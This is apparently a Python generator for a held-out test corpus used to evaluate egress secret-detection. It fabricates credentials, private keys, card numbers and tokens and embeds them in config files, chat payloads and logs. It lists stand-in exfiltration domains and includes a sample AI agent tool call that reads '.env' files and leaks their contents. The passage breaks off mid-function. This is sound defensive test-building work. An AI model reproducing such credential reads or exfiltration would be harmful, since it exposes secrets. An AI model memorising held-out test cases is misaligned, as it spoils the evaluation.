#!/usr/bin/env python3
"""Held-out egress secret-detection test corpus, split 11.

Python 3 standard library only.  Deterministic: a single random.Random(SEED)
drives every choice; gzip members are written with mtime=0.

    nice python3 generate.py          # regenerate files, then run the checker
    nice python3 generate.py --check  # run only the checker

Writes positives.jsonl, negatives.jsonl and README.md next to this script.
"""
import base64
import datetime
import email.utils
import gzip
import hashlib
import hmac
import html
import json
import os
import random
import re
import string
import struct
import sys
import zlib
from urllib.parse import quote, quote_plus, unquote, unquote_plus, urlencode, urlsplit
from xml.sax.saxutils import escape as xesc

SEED = 0x5E11B07  # 98638599
R = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))
POS_FILE = os.path.join(HERE, 'positives.jsonl')
NEG_FILE = os.path.join(HERE, 'negatives.jsonl')
README = os.path.join(HERE, 'README.md')

DIG = string.digits
LOW = string.ascii_lowercase
UP = string.ascii_uppercase
B62 = DIG + UP + LOW
B64U = B62 + '-_'
B64S = UP + LOW + DIG + '+/'
B32U = UP + '234567'
HEXL = '0123456789abcdef'
HEXU = '0123456789ABCDEF'
B58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'
PW_SYMS = '!@%^*-_=+.?~'

CONTEXT_CLASSES = ['generic-secret', 'password', 'high-entropy-url-exfiltration', 'dns-exfiltration',
                   'bearer-token', 'basic-auth-credentials', 'url-credentials', 'database-connection-string',
                   'jwt', 'private-key', 'credit-card-number', 'delimited-hex-exfiltration',
                   'split-field-exfiltration', 'encoded-file-exfiltration']


# ----------------------------------------------------------------------------
# small random helpers
# ----------------------------------------------------------------------------
def rs(n, a=B62):
    return ''.join(R.choice(a) for _ in range(n))


def rhex(n):
    return rs(n, HEXL)


def rdig(n):
    return str(R.randint(1, 9)) + rs(n - 1, DIG)


def rb(n):
    return bytes(R.getrandbits(8) for _ in range(n))


def pick(s):
    return R.choice(s)


def b64(b):
    if isinstance(b, str):
        b = b.encode()
    return base64.b64encode(b).decode()


def b64u(b):
    if isinstance(b, str):
        b = b.encode()
    return base64.urlsafe_b64encode(b).decode().rstrip('=')


def b32l(b):
    return base64.b32encode(b).decode().rstrip('=').lower()


def ruuid():
    h = list(rhex(32))
    h[12] = '4'
    h[16] = pick('89ab')
    h = ''.join(h)
    return f'{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}'


def epoch():
    return 1704067200 + R.randint(0, 31_000_000)


def iso(t=None, ms=False):
    d = datetime.datetime.fromtimestamp(t if t is not None else epoch(), datetime.timezone.utc)
    if ms:
        return d.strftime('%Y-%m-%dT%H:%M:%S.') + f'{R.randint(0, 999):03d}Z'
    return d.strftime('%Y-%m-%dT%H:%M:%SZ')


def rfc2822(t=None):
    d = datetime.datetime.fromtimestamp(t if t is not None else epoch(), datetime.timezone.utc)
    return email.utils.format_datetime(d, usegmt=True)


def wrap(s, n=64):
    return '\n'.join(s[i:i + n] for i in range(0, len(s), n))


def b62enc(n):
    s = ''
    while n:
        n, r = divmod(n, 62)
        s = B62[r] + s
    return s or '0'


def base36(n):
    a = DIG + LOW
    s = ''
    while n:
        n, r = divmod(n, 36)
        s = a[r] + s
    return s or '0'


APPS = ['billing-api', 'orders-svc', 'checkout', 'inventory', 'notifier', 'ledger', 'search-indexer',
        'auth-gateway', 'report-worker', 'media-proxy', 'crm-sync', 'etl-nightly', 'payments-core',
        'webhooks-relay', 'analytics-ingest', 'support-bot']
ENVS = ['production', 'staging', 'prod-eu', 'prod-us', 'preview', 'qa']
ORGS = ['acme-corp', 'northwind', 'globex', 'initech', 'umbrella-labs', 'hooli', 'stark-ind', 'wayne-ent',
        'piedpiper', 'vandelay']
REPOS = ['infra', 'web-app', 'platform', 'data-pipeline', 'mobile', 'terraform-live', 'ml-models', 'docs',
         'api-gateway', 'deploy-scripts']
USERS = ['alice', 'bob', 'carol', 'dmitri', 'erin', 'farah', 'gustavo', 'hana', 'ivan', 'jules', 'kenji',
         'lena', 'mateo', 'noor', 'oskar', 'priya', 'quentin', 'rosa', 'sven', 'tariq']
LAST = ['nguyen', 'schmidt', 'okafor', 'garcia', 'kowalski', 'tanaka', 'silva', 'haddad', 'larsen', 'moreau',
        'rossi', 'petrov', 'khan', 'oconnor', 'fischer']
CORP = ['acmecorp.io', 'northwind-traders.com', 'globex.net', 'initech.co', 'hooli.dev', 'vandelay-imports.com',
        'piedpiper.app', 'umbrella-labs.org']
EXFIL = ['cdn-metrics-sync.com', 'telemetry-edge.net', 'pixel-relay.io', 'update-check.org', 'stats-collect.xyz',
         'api-healthz.net', 'img-cache-cdn.com', 'logs-ingest.info', 'fonts-static-cdn.net', 'oast-relay.site']
MODELS = ['gpt-4o', 'gpt-4.1-mini', 'claude-3-5-sonnet-latest', 'claude-sonnet-4-5', 'llama-3.1-70b-instruct',
          'mistral-large-latest', 'gemini-1.5-pro']
LOREM = ('lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt ut labore et '
         'dolore magna aliqua enim ad minim veniam quis nostrud exercitation ullamco laboris nisi aliquip ex ea '
         'commodo consequat duis aute irure in reprehenderit voluptate velit esse cillum fugiat nulla pariatur '
         'excepteur sint occaecat cupidatat non proident sunt culpa qui officia deserunt mollit anim id est '
         'laborum').split()
WORDS = ['maple', 'harbor', 'copper', 'violet', 'summit', 'falcon', 'river', 'ember', 'cobalt', 'meadow',
         'glacier', 'orchid', 'saffron', 'thunder', 'willow', 'quartz', 'lantern', 'pepper', 'nebula', 'tundra']


def person():
    f, l = pick(USERS), pick(LAST)
    return f, l, f'{f}.{l}@{pick(CORP)}'


def lorem_sentence(a=6, b=14):
    w = [pick(LOREM) for _ in range(R.randint(a, b))]
    return ' '.join(w).capitalize() + '.'


def lorem_para(n=None):
    return ' '.join(lorem_sentence() for _ in range(n or R.randint(3, 6)))


def make_password():
    k = R.randint(0, 4)
    if k == 0:
        return pick(WORDS).capitalize() + pick(PW_SYMS) + pick(WORDS).capitalize() + rs(R.randint(2, 4), DIG)
    if k == 1:
        return rs(R.randint(14, 22), B62 + PW_SYMS)
    if k == 2:
        return '-'.join(pick(WORDS) for _ in range(4)) + rs(1, DIG)
    if k == 3:
        return rs(3, UP) + pick(PW_SYMS) + rs(5, LOW) + rs(3, DIG) + pick(PW_SYMS) + rs(3, B62)
    return pick(WORDS).capitalize() + rs(4, DIG) + pick(PW_SYMS) + pick(WORDS)


# ----------------------------------------------------------------------------
# encoders: base58check, bech32, keccak, luhn, iban, DER
# ----------------------------------------------------------------------------
def b58enc(b):
    n = int.from_bytes(b, 'big')
    s = ''
    while n:
        n, r = divmod(n, 58)
        s = B58[r] + s
    return '1' * (len(b) - len(b.lstrip(b'\0'))) + s


def b58check(payload):
    return b58enc(payload + hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4])


BECH = 'qpzry9x8gf2tvdw0s3jn54khce6mua7l'


def _polymod(values):
    gen = [0x3b6a57b2, 0x26508e6d, 0x1ea119fa, 0x3d4233dd, 0x2a1462b3]
    chk = 1
    for v in values:
        top = chk >> 25
        chk = ((chk & 0x1ffffff) << 5) ^ v
        for i in range(5):
            if (top >> i) & 1:
                chk ^= gen[i]
    return chk


def _hrpx(h):
    return [ord(x) >> 5 for x in h] + [0] + [ord(x) & 31 for x in h]


def convertbits(data, frm, to):
    acc = bits = 0
    out = []
    for v in data:
        acc = (acc << frm) | v
        bits += frm
        while bits >= to:
            bits -= to
            out.append((acc >> bits) & ((1 << to) - 1))
    if bits:
        out.append((acc << (to - bits)) & ((1 << to) - 1))
    return out


def bech32_encode(hrp, data5, const=1):
    pm = _polymod(_hrpx(hrp) + data5 + [0] * 6) ^ const
    chk = [(pm >> 5 * (5 - i)) & 31 for i in range(6)]
    return hrp + '1' + ''.join(BECH[d] for d in data5 + chk)


def segwit_addr(witver, prog, hrp='bc'):
    return bech32_encode(hrp, [witver] + convertbits(prog, 8, 5), 1 if witver == 0 else 0x2bc830a3)


_KRC = [0x0000000000000001, 0x0000000000008082, 0x800000000000808A, 0x8000000080008000, 0x000000000000808B,
        0x0000000080000001, 0x8000000080008081, 0x8000000000008009, 0x000000000000008A, 0x0000000000000088,
        0x0000000080008009, 0x000000008000000A, 0x000000008000808B, 0x800000000000008B, 0x8000000000008089,
        0x8000000000008003, 0x8000000000008002, 0x8000000000000080, 0x000000000000800A, 0x800000008000000A,
        0x8000000080008081, 0x8000000000008080, 0x0000000080000001, 0x8000000080008008]
_KROT = [[0, 36, 3, 41, 18], [1, 44, 10, 45, 2], [62, 6, 43, 15, 61], [28, 55, 25, 21, 56], [27, 20, 39, 8, 14]]
_M64 = (1 << 64) - 1


def _rol(v, n):
    return ((v << n) | (v >> (64 - n))) & _M64 if n else v


def _keccak_f(A):
    for rc in _KRC:
        C = [A[x][0] ^ A[x][1] ^ A[x][2] ^ A[x][3] ^ A[x][4] for x in range(5)]
        D = [C[(x - 1) % 5] ^ _rol(C[(x + 1) % 5], 1) for x in range(5)]
        A = [[A[x][y] ^ D[x] for y in range(5)] for x in range(5)]
        B = [[0] * 5 for _ in range(5)]
        for x in range(5):
            for y in range(5):
                B[y][(2 * x + 3 * y) % 5] = _rol(A[x][y], _KROT[x][y])
        A = [[B[x][y] ^ ((~B[(x + 1) % 5][y]) & B[(x + 2) % 5][y]) for y in range(5)] for x in range(5)]
        A[0][0] ^= rc
    return A


def keccak256(data):
    rate = 136
    p = bytearray(data) + b'\x01'
    while len(p) % rate:
        p += b'\x00'
    p[-1] |= 0x80
    A = [[0] * 5 for _ in range(5)]
    for off in range(0, len(p), rate):
        blk = p[off:off + rate]
        for i in range(rate // 8):
            A[i % 5][i // 5] ^= int.from_bytes(blk[8 * i:8 * i + 8], 'little')
        A = _keccak_f(A)
    return b''.join(A[i % 5][i // 5].to_bytes(8, 'little') for i in range(4))


def eip55(addr20):
    h = addr20.hex()
    k = keccak256(h.encode()).hex()
    return '0x' + ''.join(c.upper() if c.isalpha() and int(k[i], 16) >= 8 else c for i, c in enumerate(h))


def luhn_ok(num):
    s = 0
    for i, d in enumerate(reversed(num)):
        n = int(d)
        if i % 2 == 1:
            n *= 2
            if n > 9:
                n -= 9
        s += n
    return s % 10 == 0


def luhn_complete(prefix, length):
    body = prefix + rs(length - len(prefix) - 1, DIG)
    for c in DIG:
        if luhn_ok(body + c):
            return body + c
    raise AssertionError


def digits_not_luhn(n, first=None):
    s = (first or str(R.randint(1, 9))) + rs(n - 1, DIG)
    if luhn_ok(s):
        s = s[:-1] + str((int(s[-1]) + 1) % 10)
    return s


def card_number():
    k = R.randint(0, 5)
    if k in (0, 1):
        return luhn_complete('4' + rs(5, DIG), 16), 'visa'
    if k == 2:
        return luhn_complete(str(R.randint(51, 55)) + rs(4, DIG), 16), 'mastercard'
    if k == 3:
        return luhn_complete(str(R.randint(2221, 2720)) + rs(2, DIG), 16), 'mastercard'
    if k == 4:
        return luhn_complete(pick(['34', '37']) + rs(4, DIG), 15), 'amex'
    return luhn_complete('6011' + rs(2, DIG), 16), 'discover'


def card_fmt(num):
    if len(num) == 15:
        parts = [num[:4], num[4:10], num[10:]]
    else:
        parts = [num[i:i + 4] for i in range(0, 16, 4)]
    return pick(['', ' ', '-', ' ']).join(parts)


IBAN_FMT = {'DE': ('n', 18), 'GB': ('gb', 18), 'FR': ('n', 23), 'NL': ('nl', 14), 'ES': ('n', 20),
            'IT': ('it', 23), 'CH': ('n', 17), 'BE': ('n', 12), 'AT': ('n', 16), 'IE': ('ie', 18)}


def iban():
    cc = pick(sorted(IBAN_FMT))
    kind, ln = IBAN_FMT[cc]
    if kind == 'n':
        bban = rs(ln, DIG)
    elif kind in ('gb', 'ie'):
        bban = rs(4, UP) + rs(14, DIG)
    elif kind == 'nl':
        bban = rs(4, UP) + rs(10, DIG)
    else:
        bban = rs(1, UP) + rs(10, DIG) + rs(12, DIG)
    num = ''.join(str(int(c, 36)) for c in bban + cc + '00')
    chk = 98 - int(num) % 97
    return f'{cc}{chk:02d}{bban}'


def iban_ok(s):
    s = s.replace(' ', '')
    return int(''.join(str(int(c, 36)) for c in s[4:] + s[:4])) % 97 == 1


def iban_spaced(s):
    return ' '.join(s[i:i + 4] for i in range(0, len(s), 4))


def der_len(n):
    if n < 0x80:
        return bytes([n])
    b = n.to_bytes((n.bit_length() + 7) // 8, 'big')
    return bytes([0x80 | len(b)]) + b


def der(tag, content):
    return bytes([tag]) + der_len(len(content)) + content


def der_uint(nbytes, top=True):
    v = bytearray(rb(nbytes))
    if top:
        v[0] |= 0x80
    v = bytes(v).lstrip(b'\0') or b'\0'
    if v[0] & 0x80:
        v = b'\0' + v
    return der(0x02, v)


def rsa_pkcs1():
    return der(0x30, der(0x02, b'\x00') + der_uint(256) + der(0x02, b'\x01\x00\x01') + der_uint(256, False)
               + der_uint(128) + der_uint(128) + der_uint(128, False) + der_uint(128, False) + der_uint(128, False))


def rsa_pkcs8():
    alg = der(0x30, der(0x06, bytes.fromhex('2a864886f70d010101')) + b'\x05\x00')
    return der(0x30, der(0x02, b'\x00') + alg + der(0x04, rsa_pkcs1()))


def ec_sec1():
    return der(0x30, der(0x02, b'\x01') + der(0x04, rb(32)) + der(0xa0, der(0x06, bytes.fromhex('2a8648ce3d030107')))
               + der(0xa1, der(0x03, b'\x00\x04' + rb(64))))


def ed25519_pkcs8():
    return der(0x30, der(0x02, b'\x00') + der(0x30, der(0x06, bytes.fromhex('2b6570'))) + der(0x04, der(0x04, rb(32))))


def sshstr(b):
    return struct.pack('>I', len(b)) + b


def openssh_ed25519(comment):
    pub, priv = rb(32), rb(32)
    pubblob = sshstr(b'ssh-ed25519') + sshstr(pub)
    chk = rb(4)
    sec = chk + chk + sshstr(b'ssh-ed25519') + sshstr(pub) + sshstr(priv + pub) + sshstr(comment.encode())
    i = 1
    while len(sec) % 8:
        sec += bytes([i])
        i += 1
    blob = (b'openssh-key-v1\x00' + sshstr(b'none') + sshstr(b'none') + sshstr(b'') + struct.pack('>I', 1)
            + sshstr(pubblob) + sshstr(sec))
    return blob, pubblob, priv


def ssh_pub_ed25519():
    return 'ssh-ed25519 ' + b64(sshstr(b'ssh-ed25519') + sshstr(rb(32)))


def ssh_pub_rsa():
    n = bytearray(rb(256))
    n[0] |= 0x80
    return 'ssh-rsa ' + b64(sshstr(b'ssh-rsa') + sshstr(b'\x01\x00\x01') + sshstr(b'\x00' + bytes(n)))


def fake_cert_der():
    tbs = der(0x30, der(0xa0, der(0x02, b'\x02')) + der_uint(16) + der(0x30, der(0x06, bytes.fromhex('2a864886f70d01010b')) + b'\x05\x00')
              + der(0x30, der(0x31, der(0x30, der(0x06, b'\x55\x04\x03') + der(0x0c, pick(CORP).encode()))))
              + der(0x30, der(0x17, b'240101000000Z') + der(0x17, b'260101000000Z'))
              + der(0x30, der(0x31, der(0x30, der(0x06, b'\x55\x04\x03') + der(0x0c, ('api.' + pick(CORP)).encode()))))
              + der(0x30, der(0x30, der(0x06, bytes.fromhex('2a864886f70d010101')) + b'\x05\x00')
                    + der(0x03, b'\x00' + der(0x30, der_uint(256) + der(0x02, b'\x01\x00\x01')))))
    return der(0x30, tbs + der(0x30, der(0x06, bytes.fromhex('2a864886f70d01010b')) + b'\x05\x00') + der(0x03, b'\x00' + rb(256)))


def make_jwt(alg='HS256', claims=None, kid=None):
    hdr = {'alg': alg, 'typ': 'JWT'}
    if kid:
        hdr['kid'] = kid
    t = epoch()
    c = claims or {'sub': str(R.randint(10000, 999999)), 'name': pick(USERS).capitalize(), 'iat': t, 'exp': t + 3600}
    si = b64u(json.dumps(hdr, separators=(',', ':'))) + '.' + b64u(json.dumps(c, separators=(',', ':')))
    if alg == 'HS256':
        sig = hmac.new(rb(32), si.encode(), hashlib.sha256).digest()
    elif alg == 'ES256':
        sig = rb(64)
    else:
        sig = rb(256)
    return si + '.' + b64u(sig)


def gh_tok(prefix, n=30):
    body = rs(n)
    return prefix + body + b62enc(zlib.crc32(body.encode())).rjust(6, '0')


def basic(u, p):
    return 'Basic ' + b64(f'{u}:{p}')


def qenv(v):
    if re.fullmatch(r'[A-Za-z0-9_./:@+=,~%-]+', v):
        return v
    return '"' + v.replace('\\', '\\\\').replace('"', '\\"') + '"'


def yq(v):
    if re.fullmatch(r'[A-Za-z0-9_./+=-]+', v) and v[0] not in '-.' and R.random() < 0.5:
        return v
    return json.dumps(v)


def deflate_raw(b):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(b) + c.flush()


# ----------------------------------------------------------------------------
# case construction
# ----------------------------------------------------------------------------
def mk(label, expect, where, payload, ct=None, enc=None, raw=False):
    c = {'label': label, 'expect': expect, 'where': where}
    if where == 'body':
        if ct:
            c['content_type'] = ct
        data = payload if isinstance(payload, bytes) else payload.encode('utf-8')
        if enc == 'gzip':
            data = gzip.compress(data, compresslevel=9, mtime=0)
            c['content_encoding'] = 'gzip'
        elif enc == 'deflate':
            data = zlib.compress(data, 9)
            c['content_encoding'] = 'deflate'
        if enc or raw or isinstance(payload, bytes) or R.random() < 0.06:
            c['base64'] = base64.b64encode(data).decode()
        else:
            c['text'] = payload
    else:
        assert isinstance(payload, str)
        c['text'] = payload
    return c


def body_bytes(c):
    if 'text' in c:
        return c['text'].encode('utf-8')
    data = base64.b64decode(c['base64'], validate=True)
    if c.get('content_encoding') == 'gzip':
        data = gzip.decompress(data)
    elif c.get('content_encoding') == 'deflate':
        data = zlib.decompress(data)
    return data


def case_text(c):
    return body_bytes(c).decode('utf-8', 'replace')


# --- decoding views, used only to self-verify that positives carry their value
_B64RUN = re.compile(r'[A-Za-z0-9+/_-]{12,}={0,2}')
_HEXRUN = re.compile(r'(?:[0-9a-fA-F]{2}){6,}')


def _jstrings(o):
    if isinstance(o, str):
        yield o
    elif isinstance(o, dict):
        for k, v in o.items():
            yield k
            yield from _jstrings(v)
    elif isinstance(o, list):
        for v in o:
            yield from _jstrings(v)


def _dec_b64(s):
    out = []
    for alt in (s, s.replace('-', '+').replace('_', '/')):
        t = alt.rstrip('=')
        t += '=' * (-len(t) % 4)
        try:
            b = base64.b64decode(t, validate=True)
        except Exception:
            continue
        for f in (lambda x: x, gzip.decompress, zlib.decompress):
            try:
                out.append(f(b).decode('utf-8'))
            except Exception:
                pass
    return out


def views(s, rounds=4):
    seen = {s}
    frontier = [s]
    for _ in range(rounds):
        nxt = []
        for v in frontier:
            cand = [unquote(v), unquote_plus(v), html.unescape(v)]
            try:
                cand += list(_jstrings(json.loads(v)))
            except Exception:
                pass
            for m in _B64RUN.finditer(v):
                cand += _dec_b64(m.group())
            for m in _HEXRUN.finditer(v):
                try:
                    cand.append(bytes.fromhex(m.group()).decode('utf-8'))
                except Exception:
                    pass
            for x in cand:
                if x not in seen and len(x) < 300000:
                    seen.add(x)
                    nxt.append(x)
        frontier = nxt
    return seen


def verify(c, tok):
    if tok is None:
        return
    vs = views(case_text(c))
    if not any(tok in v for v in vs):
        raise AssertionError(f'value not recoverable for {c["expect"]} / {c["where"]}: {tok[:12]}...')


# ----------------------------------------------------------------------------
# body carriers for named values.  sp = spec dict with 'pairs' [(ENV, key, value)]
# each returns (payload, content_type, content_encoding)
# ----------------------------------------------------------------------------
def _kv(sp):
    return [(k, v) for e, k, v in sp['pairs']]


def _ev(sp):
    return [(e, v) for e, k, v in sp['pairs']]


def env_text(sp, extra=True):
    lines = []
    if extra:
        lines += [f'APP_NAME={pick(APPS)}', f'NODE_ENV={pick(["production", "staging"])}']
    lines += [f'{e}={qenv(v)}' for e, v in _ev(sp)]
    if extra:
        lines += [f'PORT={pick([3000, 8000, 8080, 9090])}', 'LOG_LEVEL=info']
    return '\n'.join(lines) + '\n'


def c_json(sp):
    app = pick(APPS)
    k = R.randint(0, 2)
    if k == 0:
        o = {'service': app, 'environment': pick(ENVS), 'settings': dict(_kv(sp), timeout_ms=5000, retries=3)}
    elif k == 1:
        o = {'name': app, 'secrets': [{'name': e, 'value': v} for e, v in _ev(sp)], 'updated_at': iso()}
    else:
        o = {'integration': sp['svc'], 'config': dict(_kv(sp)), 'enabled': True, 'owner': pick(USERS)}
    return json.dumps(o, indent=pick([None, 2])), 'application/json', None


def c_form(sp):
    f = [('step', 'credentials'), ('integration', sp['svc'])] + _kv(sp) + [('submit', 'Save')]
    return urlencode(f), 'application/x-www-form-urlencoded', None


def c_multipart(sp):
    bnd = '----WebKitFormBoundary' + rs(16)
    fn = pick(['.env', '.env.production', 'settings.env', 'app.env', 'local.env'])
    body = (f'--{bnd}\r\nContent-Disposition: form-data; name="description"\r\n\r\n{pick(["config backup", "env for review", "please check"])}\r\n'
            f'--{bnd}\r\nContent-Disposition: form-data; name="file"; filename="{fn}"\r\nContent-Type: text/plain\r\n\r\n'
            f'{env_text(sp)}\r\n--{bnd}--\r\n')
    return body, f'multipart/form-data; boundary={bnd}', None


def c_yaml(sp):
    lines = [f'{sp["svc"]}:', f'  endpoint: https://{sp["api"]}', '  timeout: 30']
    lines += [f'  {k}: {yq(v)}' for k, v in _kv(sp)]
    lines += ['logging:', '  level: info']
    return '\n'.join(lines) + '\n', pick(['application/yaml', 'application/x-yaml', 'text/yaml']), None


def c_toml(sp):
    lines = ['[server]', f'port = {pick([8080, 9000])}', '', f'[{sp["svc"].replace(" ", "_")}]']
    lines += [f'{k} = {json.dumps(v)}' for k, v in _kv(sp)]
    return '\n'.join(lines) + '\n', 'application/toml', None


def c_ini(sp):
    lines = [f'[{pick(["default", sp["svc"], "credentials", "profile " + pick(ENVS)])}]']
    lines += [f'{k} = {v}' for k, v in _kv(sp)]
    lines += ['region = ' + pick(['us-east-1', 'eu-west-1', 'ap-southeast-2'])]
    return '\n'.join(lines) + '\n', 'text/plain', None


def c_gist(sp):
    sh = '#!/usr/bin/env bash\nset -euo pipefail\n\n' + ''.join(f"export {e}='{v}'\n" for e, v in _ev(sp))
    sh += f'\n./bin/deploy --env {pick(ENVS)} --service {pick(APPS)}\n'
    o = {'description': pick(['deploy helper', 'bootstrap script', 'ci setup']), 'public': False,
         'files': {pick(['deploy.sh', 'setup.sh', 'bootstrap.sh']): {'content': sh}}}
    return json.dumps(o), 'application/json', None


def c_dockerfile(sp):
    d = f'FROM {pick(["python:3.12-slim", "node:20-alpine", "golang:1.22"])}\nWORKDIR /app\nCOPY . .\n'
    d += ''.join(f'{pick(["ENV", "ARG"])} {e}={v}\n' for e, v in _ev(sp))
    d += f'RUN make build\nCMD ["./{pick(APPS)}"]\n'
    return d, 'text/plain', None


def c_k8s(sp):
    name = pick(APPS) + '-secrets'
    if R.random() < 0.7:
        data = ''.join(f'  {e.lower().replace("_", "-")}: {b64(v)}\n' for e, v in _ev(sp))
        y = f'apiVersion: v1\nkind: Secret\nmetadata:\n  name: {name}\n  namespace: {pick(ENVS)}\ntype: Opaque\ndata:\n{data}'
    else:
        data = ''.join(f'  {e}: {json.dumps(v)}\n' for e, v in _ev(sp))
        y = f'apiVersion: v1\nkind: Secret\nmetadata:\n  name: {name}\ntype: Opaque\nstringData:\n{data}'
    return y, 'application/yaml', None


def c_chat(sp):
    intro = pick(['I keep getting 401 Unauthorized from the API with this config, what am I doing wrong?',
                  'Can you convert this env file into a docker-compose service definition?',
                  'Please review my settings below and tell me why the client cannot authenticate.',
                  'Write a Python snippet that loads these values:'])
    content = f'{intro}\n\n```\n{env_text(sp, extra=R.random() < 0.5)}```'
    if R.random() < 0.5:
        o = {'model': pick(MODELS), 'messages': [{'role': 'system', 'content': 'You are a helpful coding assistant.'},
                                                 {'role': 'user', 'content': content}], 'temperature': 0.2}
    else:
        o = {'model': pick(MODELS), 'max_tokens': 1024, 'messages': [{'role': 'user', 'content': content}]}
    return json.dumps(o), 'application/json', None


def c_agent_tool(sp):
    tid = 'toolu_' + rs(24)
    o = {'model': pick(MODELS), 'max_tokens': 2048, 'messages': [
        {'role': 'user', 'content': 'The deploy job fails, can you figure out why?'},
        {'role': 'assistant', 'content': [{'type': 'tool_use', 'id': tid, 'name': 'bash',
                                           'input': {'command': pick(['cat .env', 'cat config/.env.production', 'env | sort'])}}]},
        {'role': 'user', 'content': [{'type': 'tool_result', 'tool_use_id': tid, 'content': env_text(sp)}]}]}
    return json.dumps(o), 'application/json', None


def c_log(sp):
    app = pick(APPS)
    t = epoch()
    lines = [f'{iso(t, True)} INFO  [{app}] worker started pid={R.randint(1000, 60000)}',
             f'{iso(t + 1, True)} DEBUG [{app}] loaded settings ' + ' '.join(f'{k}={v}' for k, v in _kv(sp)),
             f'{iso(t + 2, True)} WARN  [{app}] upstream {sp["api"]} returned 401, retrying in 5s',
             f'{iso(t + 7, True)} INFO  [{app}] request completed status=200 duration_ms={R.randint(20, 900)}']
    return '\n'.join(lines) + '\n', 'text/plain', None


def c_trace(sp):
    o = {'event_id': rhex(32), 'platform': 'python', 'level': 'error', 'timestamp': iso(),
         'exception': {'values': [{'type': 'HTTPError', 'value': f'401 Client Error: Unauthorized for url: https://{sp["api"]}/v1/me',
                                   'stacktrace': {'frames': [
                                       {'filename': 'app/client.py', 'function': 'call_api', 'lineno': R.randint(20, 300),
                                        'vars': dict([(k, repr(v)) for k, v in _kv(sp)] + [('retries', '3')])}]}}]}}
    return json.dumps(o), 'application/json', None


def c_csv(sp):
    rows = ['environment,name,value,owner,rotated_at']
    for e, v in _ev(sp):
        rows.append(f'{pick(ENVS)},{e},{v},{pick(USERS)},{iso()[:10]}')
    rows.append(f'{pick(ENVS)},FEATURE_FLAGS,new-checkout,{pick(USERS)},{iso()[:10]}')
    return '\r\n'.join(rows) + '\r\n', 'text/csv', None


def c_email(sp):
    f, l, frm = person()
    _, _, to = person()
    body = f'Hi,\n\nas discussed, here are the {sp["svc"]} values for the {pick(ENVS)} setup:\n\n'
    body += ''.join(f'  {e} = {v}\n' for e, v in _ev(sp))
    body += f'\nPlease rotate them after the migration.\n\nThanks,\n{f.capitalize()}\n'
    if R.random() < 0.5:
        m = (f'From: {f.capitalize()} {l.capitalize()} <{frm}>\r\nTo: {to}\r\nSubject: {sp["svc"]} credentials\r\n'
             f'Date: {rfc2822()}\r\nMessage-ID: <{rhex(16)}@{frm.split("@")[1]}>\r\nMIME-Version: 1.0\r\n'
             f'Content-Type: text/plain; charset=utf-8\r\n\r\n' + body.replace('\n', '\r\n'))
        return m, 'message/rfc822', None
    o = {'personalizations': [{'to': [{'email': to}]}], 'from': {'email': frm}, 'subject': f'{sp["svc"]} credentials',
         'content': [{'type': 'text/plain', 'value': body}]}
    return json.dumps(o), 'application/json', None


def c_issue(sp):
    body = (f'### What happened\n\nCalls to `{sp["api"]}` fail since this morning.\n\n### Config\n\n```bash\n'
            + ''.join(f'export {e}={v}\n' for e, v in _ev(sp)) + '```\n\n### Expected\n\nIt should work like before.\n')
    o = {'title': f'{sp["svc"]} integration broken after upgrade', 'body': body, 'labels': ['bug', 'needs-triage']}
    return json.dumps(o), 'application/json', None


def c_gzip_json(sp):
    o = {'device': rhex(12), 'app_version': f'{R.randint(1, 9)}.{R.randint(0, 30)}.{R.randint(0, 9)}',
         'config_snapshot': dict(_kv(sp)), 'ts': epoch()}
    return json.dumps(o), 'application/json', 'gzip'


def c_deflate_ndjson(sp):
    lines = []
    for i in range(R.randint(3, 6)):
        lines.append(json.dumps({'ts': iso(), 'level': 'info', 'msg': 'heartbeat', 'seq': i}))
    lines.insert(R.randint(1, len(lines) - 1), json.dumps({'ts': iso(), 'level': 'debug', 'msg': 'client init', 'env': dict(_ev(sp))}))
    return '\n'.join(lines) + '\n', 'application/x-ndjson', 'deflate'


def c_b64_json(sp):
    o = {'path': pick(['.env', 'config/.env', 'deploy/.env.prod']), 'encoding': 'base64', 'content': b64(env_text(sp))}
    return json.dumps(o), 'application/json', None


def c_hex_json(sp):
    o = {'diag_id': ruuid(), 'blob_hex': env_text(sp).encode().hex()}
    return json.dumps(o), 'application/json', None


def c_double_json(sp):
    inner = json.dumps(dict(_kv(sp), source=pick(APPS)))
    o = {'event': 'config_sync', 'version': R.randint(1, 40), 'payload': inner}
    return json.dumps(o), 'application/json', None


def c_unicode_json(sp):
    parts = []
    for k, v in _kv(sp):
        parts.append(json.dumps(k) + ':"' + ''.join('\\u%04x' % ord(ch) for ch in v) + '"')
    return '{' + ','.join(parts + ['"client":"' + pick(APPS) + '"']) + '}', 'application/json', None


def c_xml(sp):
    adds = ''.join(f'    <add key="{xesc(e)}" value="{xesc(v)}" />\n' for e, v in _ev(sp))
    x = ('<?xml version="1.0" encoding="utf-8"?>\n<configuration>\n  <appSettings>\n'
         '    <add key="Environment" value="Production" />\n' + adds + '  </appSettings>\n</configuration>\n')
    return x, pick(['application/xml', 'text/xml']), None


def c_properties(sp):
    p = f'spring.application.name={pick(APPS)}\nserver.port=8080\n'
    p += ''.join(f'{sp["svc"].replace(" ", "").lower()}.{k.replace("_", "-")}={v}\n' for k, v in _kv(sp))
    return p, 'text/plain', None


def c_graphql(sp):
    o = {'operationName': 'UpsertSecrets',
         'query': 'mutation UpsertSecrets($input: [SecretInput!]!) { upsertSecrets(input: $input) { id name } }',
         'variables': {'input': [{'name': e, 'value': v} for e, v in _ev(sp)]}}
    return json.dumps(o), 'application/json', None


def c_diff(sp):
    a, b = rhex(7), rhex(7)
    d = (f'diff --git a/config/settings.py b/config/settings.py\nindex {a}..{b} 100644\n--- a/config/settings.py\n'
         f'+++ b/config/settings.py\n@@ -10,6 +10,{6 + len(sp["pairs"])} @@\n DEBUG = False\n ALLOWED_HOSTS = ["*"]\n')
    d += ''.join(f'-{e} = os.environ.get("{e}")\n+{e} = "{v}"\n' for e, v in _ev(sp))
    if R.random() < 0.5:
        return d, 'text/x-diff', None
    return json.dumps({'title': 'hotfix config', 'patch': d, 'base': 'main'}), 'application/json', None


def c_har(sp):
    name, val = pick(sp['hdr']).split(': ', 1)
